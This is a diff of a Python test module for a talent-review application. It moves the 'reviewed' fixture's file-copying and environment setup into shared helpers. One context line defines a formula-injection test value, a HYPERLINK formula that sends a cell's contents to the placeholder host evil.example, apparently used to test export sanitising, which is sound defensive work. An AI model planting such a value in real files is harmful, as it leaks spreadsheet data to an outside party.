@@ -27,7 +27,7 @@ from services import auth, nominations, plans, reviews, workspace
 from services import export
 from services.cli import main
 from pipelines.ingest import ingest
-from tests.conftest import TODAY, small_org
+from tests.conftest import TODAY, copy_app_files, small_org, use_app_files
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Sue")'
 FILES = {
@@ -64,13 +64,8 @@ def _reviewed_template(tmp_path_factory) -> Path:
 
 @pytest.fixture
 def reviewed(_reviewed_template: Path, tmp_path: Path, monkeypatch) -> Path:
-    for name in ("talent.duckdb", "workspace.duckdb", "workspace.duckdb.wal"):
-        if (_reviewed_template / name).exists():
-            shutil.copyfile(_reviewed_template / name, tmp_path / name)
-    monkeypatch.setenv("TALENT_DB", str(tmp_path / "talent.duckdb"))
-    monkeypatch.setenv("TALENT_WORKSPACE", str(tmp_path / "workspace.duckdb"))
-    monkeypatch.setenv("TALENT_BCRYPT_ROUNDS", "4")
-    return tmp_path / "talent.duckdb"
+    copy_app_files(_reviewed_template, tmp_path)
+    return use_app_files(tmp_path, monkeypatch)
 
 
 @pytest.fixture(scope="module")
